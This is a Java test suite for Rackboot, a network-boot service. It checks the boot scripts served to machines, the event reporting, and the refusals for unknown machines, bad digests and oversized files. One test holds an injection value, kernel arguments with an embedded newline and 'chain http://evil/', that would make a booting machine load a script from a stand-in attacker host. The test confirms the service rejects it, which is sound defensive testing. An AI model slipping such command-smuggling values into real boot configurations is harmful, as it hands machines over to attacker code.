package io.rackboot.boot;

import static io.rackboot.boot.testing.BootLab.MACHINE;
import static io.rackboot.boot.testing.BootLab.SECOND_MAC;
import static io.rackboot.boot.testing.BootLab.lab;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.rackboot.boot.artifact.FakeImageService;
import io.rackboot.boot.machine.Documents;
import io.rackboot.boot.testing.Await;
import io.rackboot.boot.testing.BootLab;
import io.rackboot.events.Emitter;
import io.rackboot.events.FileRole;
import io.rackboot.events.Ipv4;
import io.rackboot.events.MachineId;
import io.rackboot.events.Rack;
import io.rackboot.events.TransferOutcome;
import io.rackboot.events.document.Artifact;
import io.rackboot.events.fact.FileFetched;
import io.rackboot.events.fact.RequestRefused;
import io.rackboot.nats.testing.NeedsNatsServer;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@NeedsNatsServer
@QuarkusTestResource(BootLab.class)
class ScriptsTest {
    private static final String TOKEN = "[0-9a-f]{12}\\.[0-9a-z]+\\.[A-Za-z0-9_-]{43}\\.hello\\.1\\.[A-Za-z0-9_-]{43}";

    @Test
    void aMachineGetsItsScript() {
        var response = ready(MACHINE, "boot.ipxe");
        var server = "http://localhost:" + RestAssured.port;
        var directory = server + "/boot/" + MACHINE;

        assertThat(response.header("Content-Type")).isEqualTo("text/plain; charset=utf-8");
        assertThat(response.header("Cache-Control")).isEqualTo("no-store");
        assertThat(response.header("Rackboot-Role")).isEqualTo("script");
        assertThat(response.asString().replaceAll("(?<=rackboot.token=)" + TOKEN, "TOKEN"))
                .isEqualTo("""
                        #!ipxe
                        echo Rackboot: 52:54:00:a1:b2:c3 boots image hello.1 (profile default)
                        imgfree
                        kernel --timeout 60000 %1$s/artifacts/%2$s/vmlinuz console=ttyS0 quiet BOOTIF=01-52-54-00-a1-b2-c3 rackboot.phone-home=%1$s/phone-home rackboot.token=TOKEN initrd=initrd.img || goto failed
                        initrd --timeout 60000 --name initrd.img %1$s/artifacts/%3$s/initrd.img || goto failed
                        boot || goto failed
                        :failed
                        echo Rackboot: the boot failed, see the lines above
                        :again
                        echo Rackboot: asking %4$s again in 5 seconds
                        sleep 5 ||
                        chain --replace --autofree %1$s/boot.ipxe ||
                        goto again
                        """.formatted(
                        directory, lab().kernel().sha256(), lab().initrd().sha256(), server));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "autoexec.ipxe",
                "grub.cfg",
                "grub/grub.cfg",
                "grub/grub.cfg-01-52-54-00-a1-b2-c3",
                "pxelinux.cfg/default",
                "pxelinux.cfg/C0A84D64"
            })
    void otherLoadersGetTheirs(String path) {
        assertThat(ready(MACHINE, path).asString())
                .contains("/" + MACHINE + "/artifacts/" + lab().kernel().sha256() + "/vmlinuz");
    }

    @Test
    void everyMacAddressOfAMachineBoots() {
        var script = ready(SECOND_MAC, "boot.ipxe").asString();

        assertThat(script).contains("BOOTIF=01-52-54-00-a1-b2-c4").contains("rackboot.token=" + SECOND_MAC + ".");
        var fact = lab().bus().awaitFact(FileFetched.class, f -> f.path().contains(SECOND_MAC));
        assertThat(fact.machine()).isEqualTo(new MachineId(MACHINE));
    }

    @Test
    void theScriptsTransferIsTold() {
        var length = ready(MACHINE, "boot.ipxe").asByteArray().length;

        var fact = lab().bus().awaitFact(FileFetched.class, f -> f.path().equals("/boot/" + MACHINE + "/boot.ipxe"));
        assertThat(fact.rack()).isEqualTo(new Rack("r1"));
        assertThat(fact.role()).isEqualTo(FileRole.SCRIPT);
        assertThat(fact.outcome()).isEqualTo(TransferOutcome.COMPLETE);
        assertThat(fact.bytes()).isEqualTo(length);
        assertThat(fact.client()).isEqualTo(new Ipv4("127.0.0.1"));
        assertThat(fact.duration()).isPositive();
    }

    @Test
    void aHeadHasTheLengthOfAGet() {
        var get = ready(MACHINE, "grub.cfg");
        var head = given().head("/boot/" + MACHINE + "/grub.cfg");

        assertThat(head.statusCode()).isEqualTo(200);
        assertThat(head.header("Content-Length")).isEqualTo(get.header("Content-Length"));
        assertThat(head.asByteArray()).isEmpty();
        lab().bus()
                .awaitFact(
                        FileFetched.class,
                        f -> f.outcome() == TransferOutcome.PROBE && f.path().equals("/boot/" + MACHINE + "/grub.cfg"));
    }

    @Test
    void aRequestOfTftpServiceIsNotToldAgain() {
        ready(MACHINE, "boot.ipxe");
        given().header("Rackboot-Via", "tftp")
                .header("Forwarded", "for=127.0.0.9")
                .get("/boot/" + MACHINE + "/pxelinux.cfg/via-tftp")
                .then()
                .statusCode(200);
        given().get("/boot/" + MACHINE + "/pxelinux.cfg/after").then().statusCode(200);

        lab().bus().awaitFact(FileFetched.class, f -> f.path().endsWith("/after"));
        assertThat(lab().bus().heard(FileFetched.class, f -> f.path().endsWith("/via-tftp")))
                .isEmpty();
    }

    @Test
    void outsideOfItsDirectoryAMachineIsFoundByItsLeaseOrItsName() {
        ready(MACHINE, "boot.ipxe");
        lab().bus().put(Documents.lease("127.0.0.7", MACHINE));
        Await.until(
                "the lease", () -> viaTftp("/tftp/autoexec.ipxe", "127.0.0.7").statusCode() == 200);

        for (var path : List.of(
                "autoexec.ipxe",
                "grub/grub.cfg",
                "pxelinux.cfg/default",
                "pxelinux.cfg/7F000007",
                "pxelinux.cfg/01-52-54-00-a1-b2-c3",
                "pxelinux.cfg/4c4c4544-0077-4a10-8031-b4c04f4c4d32",
                "grub.cfg-01-52-54-00-A1-B2-C3")) {
            var client = path.matches(".*(default|autoexec.ipxe|grub.cfg)") ? "127.0.0.7" : "127.0.0.8";
            assertThat(viaTftp("/tftp/" + path, client).asString())
                    .as(path)
                    .contains("rackboot.token=" + MACHINE + ".");
        }
        assertThat(viaTftp("/tftp/autoexec.ipxe", "127.0.0.8").statusCode()).isEqualTo(404);
        assertThat(viaTftp("/tftp/pxelinux.cfg/default", "127.0.0.8").statusCode())
                .isEqualTo(404);
    }

    @Test
    void anUnknownMachineIsToldSoAndTheFactIsSaidOnce() {
        var machine = "020000000001";
        for (var i = 0; i < 3; i++) {
            assertThat(given().get("/boot/" + machine + "/boot.ipxe").asString())
                    .isEqualTo("""
                            #!ipxe
                            echo Rackboot: 02:00:00:00:00:01 cannot boot: unknown-machine
                            echo Rackboot: no machine has the MAC address 02:00:00:00:00:01; add it: PUT /machines/02:00:00:00:00:01 of inventory-service
                            :again
                            echo Rackboot: asking http://localhost:%1$d again in 10 seconds
                            sleep 10 ||
                            chain --replace --autofree http://localhost:%1$d/boot/020000000001/boot.ipxe ||
                            goto again
                            """.formatted(RestAssured.port));
        }
        given().get("/boot/020000000002/boot.ipxe").then().statusCode(200);

        lab().bus().awaitFact(RequestRefused.class, f -> f.machine().text().equals("020000000002"));
        var refusals =
                lab().bus().heard(RequestRefused.class, f -> f.machine().text().equals(machine));
        assertThat(refusals)
                .containsExactly(new RequestRefused(
                        new Rack("r1"),
                        new MachineId(machine),
                        Emitter.HTTP,
                        "unknown-machine",
                        "no machine has the MAC address 02:00:00:00:00:01; add it: PUT"
                                + " /machines/02:00:00:00:00:01 of inventory-service",
                        Optional.of(new Ipv4("127.0.0.1"))));
        assertThat(lab().bus().heard(FileFetched.class, f -> f.machine().text().equals(machine)))
                .isEmpty();
    }

    @Test
    void aWrongDigestIsShownOnTheConsole() {
        var initrd = lab().images().add(FileRole.INITRD, "initrd.img", new byte[] {1});
        var wrong = new Artifact(initrd.role(), initrd.name(), 1, "0".repeat(64), initrd.location());
        machine("020000000011", "wrong-digest", wrong);

        assertThat(refusal("020000000011", "digest-mismatch"))
                .contains("its SHA-256 is " + initrd.sha256() + ", the document says " + "0".repeat(64));
    }

    @Test
    void aMissingFileIsShownOnTheConsole() {
        var missing = new Artifact(
                FileRole.INITRD, "initrd.img", 1, "3".repeat(64), lab().images().url("/nowhere"));
        machine("020000000012", "missing-file", missing);

        assertThat(refusal("020000000012", "artifact-unavailable"))
                .contains("initrd.img cannot be fetched from " + missing.location() + ": HTTP status 404");
        given().get("/boot/020000000012/artifacts/" + missing.sha256() + "/initrd.img")
                .then()
                .statusCode(502);
    }

    @Test
    void aFileWithoutRoomIsShownOnTheConsole() {
        var huge = new Artifact(
                FileRole.INITRD,
                "initrd.img",
                1L << 60,
                "4".repeat(64),
                lab().images().url("/huge"));
        machine("020000000013", "huge-file", huge);

        assertThat(refusal("020000000013", "cache-failed")).contains("make room on its file system");
        given().get("/artifacts/" + huge.sha256() + "/initrd.img").then().statusCode(507);
    }

    @Test
    void argumentsThatCannotBeHandedOverAreShownOnTheConsole() {
        var initrd = lab().images().add(FileRole.INITRD, "initrd.img", new byte[] {2});
        lab().bus().put(Documents.profile("line-end", "line-end", "a\nchain http://evil/"));
        lab().bus().put(Documents.image("line-end", "1", Instant.EPOCH, lab().kernel(), initrd));
        lab().bus().put(Documents.machine(List.of("020000000014"), Optional.of("line-end"), Optional.empty()));

        assertThat(refusal("020000000014", "kernel-arguments"))
                .contains("a control character in the kernel argument a?chain http://evil/; change the arguments");
    }

    @Test
    void anImageOnItsWayMakesTheMachineWait() {
        var gate = new CountDownLatch(1);
        var initrd = lab().images().add(FileRole.INITRD, "initrd.img", BootLab.content(5, 1_048_576));
        lab().images().behave((exchange, content) -> {
            try {
                gate.await();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            FakeImageService.whole(exchange, content);
        });
        try {
            machine("020000000015", "slow", initrd);
            var script = awaitScript("020000000015", "on its way");

            assertThat(script)
                    .contains("echo Rackboot: image slow.1 is on its way to this rack: initrd.img 0 % of 1.0 MiB\n")
                    .contains("sleep 2 ||\n");
        } finally {
            gate.countDown();
            lab().images().behave(FakeImageService::whole);
        }
        awaitScript("020000000015", "boots image slow.1");
        assertThat(lab().bus()
                        .heard(
                                RequestRefused.class,
                                f -> f.machine().text().equals("020000000015")
                                        && !f.reason().startsWith("unknown-")))
                .isEmpty();
    }

    @Test
    void aOneShotProfileComesFirstAndTheNewestVersionIsTaken() {
        var initrd = lab().images().add(FileRole.INITRD, "initrd.img", new byte[] {3});
        lab().bus().put(Documents.image("rescue", "2", Instant.parse("2026-01-02T00:00:00Z"), lab().kernel(), initrd));
        lab().bus().put(Documents.image("rescue", "10", Instant.parse("2026-01-01T00:00:00Z"), lab().kernel(), initrd));
        lab().bus().put(Documents.profile("rescue", "rescue"));
        lab().bus().put(Documents.machine(List.of("020000000016"), Optional.of("default"), Optional.of("rescue")));

        awaitScript("020000000016", "boots image rescue.2 (profile rescue)");
    }

    @Test
    void aDocumentThatCannotBeReadLeavesTheLastGoodOne() {
        ready(MACHINE, "boot.ipxe");
        var other = "020000000017";
        lab().bus().put(Documents.machine(List.of(other), Optional.of("default"), Optional.empty()));
        awaitScript(other, "boots image hello.1");

        lab().bus().put("machines", other, "{\"id\": \"nonsense\"".getBytes());
        lab().bus().put(Documents.machine(List.of("020000000018"), Optional.of("default"), Optional.empty()));

        awaitScript("020000000018", "boots image hello.1");
        awaitScript(other, "boots image hello.1");
    }

    private static void machine(String mac, String image, Artifact initrd) {
        lab().bus().put(Documents.profile(image, image));
        lab().bus().put(Documents.image(image, "1", Instant.EPOCH, lab().kernel(), initrd));
        lab().bus().put(Documents.machine(List.of(mac), Optional.of(image), Optional.empty()));
    }

    /// The script of a refused machine, once its fact was said too.
    private static String refusal(String mac, String reason) {
        var script = awaitScript(mac, "cannot boot: " + reason);
        lab().bus()
                .awaitFact(
                        RequestRefused.class,
                        f -> f.machine().text().equals(mac) && f.reason().equals(reason));
        return script;
    }

    private static String awaitScript(String mac, String text) {
        return Await.present(
                text,
                () -> Optional.of(given().get("/boot/" + mac + "/boot.ipxe").asString())
                        .filter(script -> script.contains(text)));
    }

    private static Response viaTftp(String path, String client) {
        return given().header("Rackboot-Via", "tftp")
                .header("Forwarded", "for=" + client)
                .get(path);
    }

    /// The service's answer once it has the documents and the image.
    static Response ready(String mac, String path) {
        return Await.present(
                "a script that boots",
                () -> Optional.of(given().get("/boot/" + mac + "/" + path))
                        .filter(response -> response.statusCode() == 200
                                && response.asString().contains("rackboot.token=")));
    }
}
